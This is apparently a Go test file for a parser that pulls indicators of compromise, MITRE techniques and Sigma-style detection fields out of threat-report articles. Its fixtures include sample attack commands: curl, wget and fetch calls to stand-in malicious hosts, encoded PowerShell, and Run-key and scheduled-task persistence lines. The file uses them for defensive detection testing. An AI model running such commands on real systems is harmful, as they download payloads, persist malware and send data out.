package article

import (
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/huntc/huntc/diag"
)

const (
	sha256 = "9f2c1e7d5b3a4f60718293a4b5c6d7e8f9012a3b4c5d6e7f8091a2b3c4d5e6f7"
	sha1   = "3f786850e387550fdab836ed7e6dc881de23001b"
	md5    = "3f786850e387550fdab836ed7e6dc881"
)

// The same article three times: what it says does not hang on how it is
// written.
var formats = []struct {
	format Format
	text   string
}{
	{Markdown, "# Otter strikes\n\n**Source:** Otter Labs\n**Published:** March 9, 2026\n**Article:** https://blog.otter-labs.net/a\n\n" +
		"The loader calls **otter**-cdn[.]net, see [others](https://otherlab.net/y). It drops `C:\\ProgramData\\otter\\o.dll`.\n\n" +
		"## Indicators of compromise\n\n- evil-otter.org\n- " + sha256 + "\n\n```\n#!/usr/bin/env node\n```\n"},
	{HTML, "<!doctype html><html><head><title>x</title><meta property=og:site_name content='Otter Labs'><link rel=canonical href=https://blog.otter-labs.net/a>" +
		"<meta content=\"2026-03-09T08:00:00Z\" property=\"article:published_time\"><script>var a = '<p>script-otter[.]net</p>'</script></head><body><nav><a href='https://nav-otter.net/'>Home</a></nav>" +
		"<h1>Otter strikes</h1><p>The loader calls <b>otter</b>-cdn[.]n&#8203;et, see <a href=\"https://otherlab.net/y\">others</a>. It drops <code>C:\\ProgramData\\otter\\o.dll</code>.</p>" +
		"<h2>Indicators of compromise</h2><ul><li>evil-otter.org<li>" + sha256 + "</ul><pre>#!/usr/bin/env node\n</pre></body></html>"},
	{Text, "Otter strikes\n\nSource: Otter Labs\nDate: 9 Mar 2026\nURL: https://blog.otter-labs.net/a\n\n" +
		"The loader calls otter-cdn[.]net, see\nhttps://otherlab.net/y elsewhere. It drops C:\\ProgramData\\otter\\o.dll.\n\n" +
		"Indicators of compromise\n\nevil-otter.org\n" + sha256 + "\n\n#!/usr/bin/env node\n"},
}

func TestFormats(t *testing.T) {
	for _, c := range formats {
		d, list := Parse("a", []byte(c.text))
		holds(t, d, list, []byte(c.text))
		if d.Format != c.format {
			t.Errorf("format %s, want %s", d.Format, c.format)
		}
		facts := []string{d.Title.Text, d.Publisher.Text, d.URL.Text, d.Published.Text}
		if diff := cmp.Diff([]string{"Otter strikes", "Otter Labs", "https://blog.otter-labs.net/a", "2026-03-09"}, facts); diff != "" {
			t.Errorf("%s: metadata (-want +got)\n%s", c.format, diff)
		}
		if diff := cmp.Diff([]string{"domain otter-cdn.net", "domain evil-otter.org", "sha256 " + sha256}, shown(d.Indicators)); diff != "" {
			t.Errorf("%s: indicators (-want +got)\n%s", c.format, diff)
		}
		if !strings.HasPrefix(d.Indicators[0].Sentence, "The loader calls otter-cdn[.]net, see") || strings.Contains(d.Indicators[0].Sentence, "drops") {
			t.Errorf("%s: sentence %q", c.format, d.Indicators[0].Sentence)
		}
		if diff := cmp.Diff([]string{`file path C:\ProgramData\otter\o.dll: TargetFilename|endswith \ProgramData\otter\o.dll`}, traces(d.Mechanics)); diff != "" {
			t.Errorf("%s: mechanics (-want +got)\n%s", c.format, diff)
		}
		if got := traces(d.Unused); len(got) != 1 || !strings.Contains(got[0], "/usr/bin/env") {
			t.Errorf("%s: not used: %q", c.format, got)
		}
	}
}

func shown(list []Indicator) []string {
	var out []string
	for _, i := range list {
		s := string(i.Kind) + " " + i.Value
		if i.Reason != "" {
			s += " (" + string(i.Reason) + " " + string(i.Code) + ")"
		}
		if i.Doubt != "" {
			s += " doubt"
		}
		out = append(out, s)
	}
	return out
}

func traces(list []Mechanic) []string {
	var out []string
	for _, m := range list {
		s := string(m.Kind) + " " + m.Value
		if m.Reason != "" {
			out = append(out, s+" ("+string(m.Reason)+" "+string(m.Code)+")")
			continue
		}
		s += ":"
		for _, f := range m.Selection.Fixed {
			s += " " + f.Field + "=" + f.Value
		}
		if m.Selection.Field != "" {
			s += " " + m.Selection.Field
		}
		if m.Selection.Modifier != "" {
			s += "|" + m.Selection.Modifier
		}
		if len(m.Selection.Values) > 0 {
			s += " " + strings.Join(m.Selection.Values, " or ")
		}
		if m.Selection.Wildcards {
			s += " wild"
		}
		if m.Doubt != "" {
			s += " doubt"
		}
		out = append(out, s)
	}
	return out
}

// What is used, what is not, and why: one sentence each.
func TestIndicators(t *testing.T) {
	for _, c := range []struct {
		text string
		want []string
	}{
		{"It calls otter-cdn[.]net.", []string{"domain otter-cdn.net"}},
		{"It calls (otter-cdn[.]net), hxxps://a[.]otter.org/x?y=1, and 45.77.1[.]9:8443.", []string{"domain otter-cdn.net", "url https://a.otter.org/x?y=1", "domain a.otter.org", "ipv4 45.77.1.9"}},
		{"It connects to otter-cdn.net.", []string{"domain otter-cdn.net doubt"}},
		{"We like otter-cdn.net.", []string{"domain otter-cdn.net (mention HC0743)"}},
		{"We like otter-cdn.net. It connects to otter-cdn.net. It also calls otter-cdn[.]net.", []string{"domain otter-cdn.net"}},
		{"It calls C2: *.otter-cdn[.]net and c2=evil[.]org and sha256:" + sha256, []string{"domain otter-cdn.net", "domain evil.org", "sha256 " + sha256}},
		{"The mail came from otter@otter-mail[.]net.", []string{"email otter@otter-mail.net"}},
		{"The server is 2a00:1450::99 today; std::vector is not.", []string{"ipv6 2a00:1450::99"}},
		{"The sample has the hash " + md5 + ".", []string{"md5 " + md5}},
		{"The number " + md5 + " is odd.", []string{"md5 " + md5 + " doubt"}},
		{"| File | MD5 |\n|--|--|\n| a.dll | " + md5 + " |", []string{"md5 " + md5}},
		{"| Name | Number |\n|--|--|\n| a | " + md5 + " |", []string{"md5 " + md5 + " doubt"}},
		{"Reverted in commit " + sha1 + ".", []string{"sha1 " + sha1 + " (commit HC0739)"}},
		{"The tag moved to otter/action@" + sha1 + " then.", []string{"sha1 " + sha1 + " (commit HC0739)"}},
		{"The sample has the SHA1 " + sha1 + ".", []string{"sha1 " + sha1}},
		{"Fixed in version 7.4.12.2 and 8.0.11.3.", []string{"ipv4 7.4.12.2 (version HC0738)", "ipv4 8.0.11.3 (version HC0738)"}},
		{"It connects to 192.168.1.5, 203.0.113.5, 8.8.8.8 and 1.2.3.4.", []string{"ipv4 192.168.1.5 (reserved HC0736)", "ipv4 203.0.113.5 (reserved HC0736)",
			"ipv4 8.8.8.8 (infrastructure HC0737)", "ipv4 1.2.3.4 (placeholder HC0740)"}},
		{"It connects to evil.example, attacker.com and github.com.", []string{"domain evil.example (reserved HC0736)", "domain attacker.com (placeholder HC0740)", "domain github.com (infrastructure HC0737)"}},
		{"The file e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855 is empty.",
			[]string{"sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855 (placeholder HC0740)"}},
		{"The server uses otterlib.so and b.pl files.", nil},
		{"It calls co[.]uk today.", []string{"domain co.uk (suffix HC0742)"}},
		{"It calls otter-cdn[.]net; do not block otter-cdn[.]net, please.", []string{"domain otter-cdn.net (author HC0745)"}},
		{"It drops a file with the SHA256\n" + sha256 + "\nand calls otter-cdn[.]net\nDo not block: cdn.bear-drop.xyz",
			[]string{"sha256 " + sha256, "domain otter-cdn.net", "domain cdn.bear-drop.xyz (author HC0745)"}},
		{"C2: otter-cdn[.]net\nDo not block: cdn.bear-drop.xyz, x.bear-drop.xyz,\ny.bear-drop.xyz\nURL: hxxps://a.otter-two[.]net/x",
			[]string{"domain otter-cdn.net", "domain cdn.bear-drop.xyz (author HC0745)", "domain x.bear-drop.xyz (author HC0745)", "domain y.bear-drop.xyz (author HC0745)",
				"url https://a.otter-two.net/x", "domain a.otter-two.net"}},
		{"The domains a.bear-drop.xyz and\nb.bear-drop.xyz must not be blocked.", []string{"domain a.bear-drop.xyz (author HC0745)", "domain b.bear-drop.xyz (author HC0745)"}},
		{"It loads hxxps://raw.githubusercontent[.]com/otter/x.ps1 and http://192.168.1.5/x.", []string{"url https://raw.githubusercontent.com/otter/x.ps1", "url http://192.168.1.5/x (reserved HC0736)"}},
		{"It loads hxxp://45.77.1[.]9:8080/x.", []string{"url http://45.77.1.9:8080/x", "ipv4 45.77.1.9"}},
		{"It calls otter-cdn[.]net. Do not block otter-cdn[.]net, it is shared.", []string{"domain otter-cdn.net (author HC0745)"}},
		{"The server was 45.300.1[.]9 then.", []string{" 45.300.1.9 (malformed HC0746)"}},
		{"It calls hxxps://github[.]com/otter/x and https://github.com/otter/y.", []string{"url https://github.com/otter/x", "url https://github.com/otter/y (infrastructure HC0737)"}},
		{"It is e.g. the end.The next one, i.e. System.Net or window.location.", nil},
		{"It calls tcp://victim:2375/ for `curl \"http://evil[.]org/a?b=\\\"\"`.", []string{"url tcp://victim:2375/ (placeholder HC0740)", "url http://evil.org/a?b=", "domain evil.org"}},
		{"See CVE-2026-12345 there.", nil},
		{"<p>See <a href='https://other.net/x'>this</a> and <a href='hxxps://otter[.]net/x'>that</a>.</p><p></p>", []string{"url https://other.net/x (link HC0744)", "url https://otter.net/x", "domain otter.net"}},
		{"# IOCs\n\n- evil-otter[.]org\n\n## DO NOT block\n\n- otter-cdn[.]net\n\n### Shared\n\n| otter-two[.]net |\n", []string{"domain evil-otter.org", "domain otter-cdn.net (author HC0745)", "domain otter-two.net (author HC0745)"}},
		{"# IOCs\n\nDo not block these:\n\n- otter-cdn[.]net\n- otter-two[.]net", []string{"domain otter-cdn.net (author HC0745)", "domain otter-two.net (author HC0745)"}},
		{"# IOCs\n\n- Whitelisted, never block: otter-cdn[.]net", []string{"domain otter-cdn.net (author HC0745)"}},
		{"# References\n\n- otter-cdn[.]net", []string{"domain otter-cdn.net (author HC0745)"}},
		{"# IOCs\n\n## Network\n\n- otter-cdn.net\n- https://pastebin.com/raw/a1\n\n## Benign\n\n- good[.]net", []string{"domain otter-cdn.net", "url https://pastebin.com/raw/a1", "domain good.net (author HC0745)"}},
		{"# x\n\n```js\nconsole.info(process.env); fetch('https://otter-cdn.net/x'); a.id = 'evil.org'\n```\n", []string{"url https://otter-cdn.net/x doubt", "domain otter-cdn.net doubt", "domain evil.org doubt"}},
	} {
		d, list := Parse("a", []byte(c.text))
		holds(t, d, list, []byte(c.text))
		got := append([]Indicator{}, d.Indicators...)
		for _, e := range d.Excluded {
			at := 0
			for at < len(got) && got[at].Pos.Offset < e.Pos.Offset {
				at++
			}
			got = append(got[:at], append([]Indicator{e}, got[at:]...)...)
		}
		if diff := cmp.Diff(c.want, shown(got)); diff != "" {
			t.Errorf("%q (-want +got)\n%s", c.text, diff)
		}
	}
}

func TestMechanics(t *testing.T) {
	for _, c := range []struct {
		text string
		want []string
	}{
		{"It runs otter.exe.", []string{`process otter.exe: Image|endswith \otter.exe`}},
		{"It drops otter.exe.", []string{`file name otter.exe: TargetFilename|endswith \otter.exe`}},
		{"It starts cmd.exe.", []string{`process cmd.exe: Image|endswith \cmd.exe doubt`}},
		{"It writes otter.py.", []string{`file name otter.py: TargetFilename|endswith \otter.py or /otter.py`}},
		{`It drops %APPDATA%\Otter\a.dll.`, []string{`file path %APPDATA%\Otter\a.dll: TargetFilename|endswith \AppData\Roaming\Otter\a.dll`}},
		{`It runs C:\Users\<user>\otter.exe`, []string{`file path C:\Users\<user>\otter.exe: Image|endswith \otter.exe`}},
		{`It drops C:\ProgramData\<random>.dll`, []string{`file path C:\ProgramData\<random>.dll: TargetFilename|endswith \ProgramData\*.dll wild`}},
		{`It writes "C:\Program Files\Otter Tools\a b.dll" there.`, []string{`file path C:\Program Files\Otter Tools\a b.dll: TargetFilename|endswith \Program Files\Otter Tools\a b.dll`}},
		{`It sets HKLM\Software\Microsoft\Windows NT\CurrentVersion\Winlogon.`,
			[]string{`registry key HKLM\Software\Microsoft\Windows NT\CurrentVersion\Winlogon: TargetObject|contains \Software\Microsoft\Windows NT\CurrentVersion\Winlogon doubt`}},
		{`It sets HKCU\Software\Otter Soft.`, []string{`registry key HKCU\Software\Otter: TargetObject|contains \Software\Otter`}},
		{"It runs `reg add \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\" /t REG_SZ /v Otter /d x`.", []string{
			`command line reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Run" /t REG_SZ /v Otter /d x: CommandLine|contains reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Run" /t REG_SZ /v Otter /d x`,
			`registry key HKCU\Software\Microsoft\Windows\CurrentVersion\Run\Otter: TargetObject|contains \Software\Microsoft\Windows\CurrentVersion\Run\Otter`}},
		{"`w3wp.exe` spawning `cmd.exe`; otter.exe was started by winword.exe, a.exe -> b.exe.", []string{
			`child process w3wp.exe > cmd.exe: ParentImage|endswith=\w3wp.exe Image|endswith \cmd.exe`, `process w3wp.exe: Image|endswith \w3wp.exe doubt`, `process cmd.exe: Image|endswith \cmd.exe doubt`,
			`child process winword.exe > otter.exe: ParentImage|endswith=\winword.exe Image|endswith \otter.exe`, `process otter.exe: Image|endswith \otter.exe`, `process winword.exe: Image|endswith \winword.exe doubt`,
			`child process a.exe > b.exe: ParentImage|endswith=\a.exe Image|endswith \b.exe`, `process a.exe: Image|endswith \a.exe`, `process b.exe: Image|endswith \b.exe`}},
		{`It drops C:\Windows\Temp\ and C:\ProgramData\*\?.dll and C:\Users\Public\ and /etc/passwd.`, []string{
			`file path C:\Windows\Temp\: TargetFilename|contains \Windows\Temp\ doubt`, `file path C:\ProgramData\*\: TargetFilename|contains \ProgramData\*\ wild doubt`,
			`file path C:\Users\Public\: TargetFilename|contains \Users\Public\ doubt`, "file path /etc/passwd: TargetFilename /etc/passwd doubt"}},
		{"It runs `rundll32 %APPDATA%\\o.dll,X`.", []string{`command line rundll32 %APPDATA%\o.dll,X: CommandLine|contains rundll32 *\o.dll,X wild`, `file path %APPDATA%\o.dll: TargetFilename|endswith \AppData\Roaming\o.dll`}},
		{"It runs `wmic process call create C:\\Otter\\o.exe`.", []string{`command line wmic process call create C:\Otter\o.exe: CommandLine|contains wmic process call create C:\Otter\o.exe`, `file path C:\Otter\o.exe: Image|endswith \Otter\o.exe`}},
		{"It writes /tmp/.otter/x and ~/.config/otter/y, and/or z/w.", []string{"file path /tmp/.otter/x: TargetFilename /tmp/.otter/x", "file path ~/.config/otter/y: TargetFilename|endswith /.config/otter/y"}},
		{`It opens \\.\pipe\otter-1.`, []string{`named pipe otter-1: PipeName \otter-1`}},
		{"| Type | Value |\n|--|--|\n| Mutex | `Global\\OtterTwo` |\n| `otter task` | scheduled task |", []string{`mutex Global\OtterTwo:`, `scheduled task otter task: EventID=4698 TaskName|endswith \otter task`}},
		{"It opens the named pipe `otter`.", []string{`named pipe otter: PipeName \otter`}},
		{`It creates the mutex "Global\Otter".`, []string{`mutex Global\Otter:`}},
		{"It adds the scheduled task “Otter Update”.", []string{`scheduled task Otter Update: EventID=4698 TaskName|endswith \Otter Update`}},
		{"It adds services named `a1`, `b2` and `c3`; then `d4`.", []string{"service a1: Provider_Name=Service Control Manager EventID=7045 ServiceName a1",
			"service b2: Provider_Name=Service Control Manager EventID=7045 ServiceName b2", "service c3: Provider_Name=Service Control Manager EventID=7045 ServiceName c3"}},
		{"It uses the user agent 'Otter/1.0'.", []string{"user agent Otter/1.0: c-useragent Otter/1.0"}},
		{"It sends POST /api/otter to it, on TCP port 4444 or 5555, then 443/tcp.", []string{"url path /api/otter: c-uri|contains /api/otter", "port 4444: DestinationPort 4444",
			"port 5555: DestinationPort 5555", "port 443: DestinationPort 443 doubt"}},
		{"It runs `curl -s hxxp://a[.]otter.net/x`.", []string{"command line curl -s http://a.otter.net/x: CommandLine|contains curl -s http://a.otter.net/x"}},
		{"It runs `powershell -enc <base64>`.", []string{"command line powershell -enc <base64>: CommandLine|contains powershell -enc * wild"}},
		{"Its \"net worth\" is \"curl\".", nil},
		{"It runs `schtasks /create /tn Otter /tr x`.", []string{`command line schtasks /create /tn Otter /tr x: CommandLine|contains schtasks /create /tn Otter /tr x`, `scheduled task Otter: EventID=4698 TaskName|endswith \Otter`}},
		{"# x\n\n```\n$ wget -q evil-otter.net/a\nx = 1\n```", []string{"command line wget -q evil-otter.net/a: CommandLine|contains wget -q evil-otter.net/a"}},
		{"Node.js runs index.js, setup.py and /usr/bin/env.", []string{"file name Node.js (code sample HC0734)", "file name index.js (code sample HC0734)", "file name setup.py (code sample HC0734)",
			"file path /usr/bin/env (interpreter HC0735)"}},
	} {
		d, list := Parse("a", []byte(c.text))
		holds(t, d, list, []byte(c.text))
		if diff := cmp.Diff(c.want, append(traces(d.Mechanics), traces(d.Unused)...)); diff != "" {
			t.Errorf("%q (-want +got)\n%s", c.text, diff)
		}
	}
}

// A list of plain text has no marks: each of its lines is an entry.
func TestPlainLists(t *testing.T) {
	text := "Otters\n\nIt runs.\n\nHashes:\n" + md5 + "\n" + sha256 + "\n\nIndicators of compromise\n\nevil-otter[.]org\nsha1: " + sha1 + "\n\nDomains that must not be blocked:\ngood-otter[.]org\n"
	d, list := Parse("a", []byte(text))
	holds(t, d, list, []byte(text))
	var got []string
	for _, i := range d.Indicators {
		got = append(got, i.Section+"|"+i.Sentence)
	}
	if diff := cmp.Diff([]string{"Hashes:|" + md5, "Hashes:|" + sha256, "Indicators of compromise|evil-otter[.]org", "Indicators of compromise|sha1: " + sha1}, got); diff != "" {
		t.Error(diff)
	}
	if got := shown(d.Excluded); len(got) != 1 || got[0] != "domain good-otter.org (author HC0745)" {
		t.Errorf("left out: %q", got)
	}
}

func TestTechniques(t *testing.T) {
	text := "It uses PowerShell (T1059.001), T1053.005 — Scheduled Task, and [T1190](https://attack.mitre.org/techniques/T1190/).\n\n| T1082 | System Information Discovery | x |\n"
	d, list := Parse("a", []byte(text))
	holds(t, d, list, []byte(text))
	var got []string
	for _, x := range d.Techniques {
		got = append(got, x.ID+" "+x.Name)
	}
	if diff := cmp.Diff([]string{"T1059.001 PowerShell", "T1053.005 Scheduled Task", "T1190 ", "T1082 System Information Discovery"}, got); diff != "" {
		t.Error(diff)
	}
}

// What is not read, and what cannot be, is said at its place.
func TestFindings(t *testing.T) {
	for _, c := range []struct{ text, want string }{
		{"\xff", "HC0731 1:1"},
		{strings.Repeat("a", MaxSize+1), "HC0732 1:1"},
		{"Nothing here.", "HC0733 1:1"},
		{"# x\n\n```\nIt calls otter[.]net", "HC0748 3:1"},
		{"<p>x</p>\n<script>\nIt calls otter[.]net</p>", "HC0748 2:1"},
		{"<p>x</p>\n<!--\nIt calls otter[.]net</p>", "HC0748 2:1"},
		{"<p>It calls otter[.]net</p><p></p>\n<footer>otter-two[.]net</footer>", "HC0748 2:1"},
		{"# x\n\nDate: tomorrow\n\nIt calls otter[.]net", "HC0749 3:1"},
		{"It has the mutex 'otter-1'.", "HC0750 1:19"},
	} {
		_, list := Parse("a", []byte(c.text))
		var got []string
		for _, x := range list {
			got = append(got, fmt.Sprintf("%s %d:%d", x.Code, x.Pos.Line, x.Pos.Column))
			if _, ok := diag.Explain(x.Code); !ok {
				t.Errorf("%s has no page", x.Code)
			}
		}
		if !strings.Contains(strings.Join(got, ", "), c.want) {
			t.Errorf("%.60q: %q, want %s", c.text, got, c.want)
		}
	}
}
